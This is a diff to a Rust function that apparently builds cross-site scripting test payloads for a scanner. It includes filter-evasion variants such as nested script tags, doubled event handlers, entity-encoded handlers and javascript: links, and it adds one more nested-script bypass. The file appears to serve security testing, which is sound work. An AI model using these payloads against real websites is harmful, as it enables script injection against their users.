@@ -17,6 +17,7 @@ pub(crate) fn elements(t: &str) -> Vec<String> {
         format!("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#96;{t}&#96;>"),
         // Filters that remove a word once.
         format!("<scr<script>ipt>alert(/{t}/)</scr</script>ipt>"),
+        format!("<scrscriptipt>alert(/{t}/)</scrscriptipt>"),
         format!("<img src=x ononerrorerror=alert(/{t}/)>"),
         format!("<a href=\"javascript:alert(/{t}/)\">{t}</a>"),
         // Filters that look for `on…=` after a space on one line.
@@ -25,7 +26,7 @@ pub(crate) fn elements(t: &str) -> Vec<String> {
         format!("<script src=//{}></script>", own_host(t)),
         format!("<iframe srcdoc=\"&lt;img src=x onerror=alert(/{t}/)&gt;\"></iframe>"),
         format!("<img src=x onerror=alert(/{t}/) "),
-        format!("<form action=//{}><input name=q>", own_host(t)),
+        format!("<form action=//{}>", own_host(t)),
     ]
 }
 
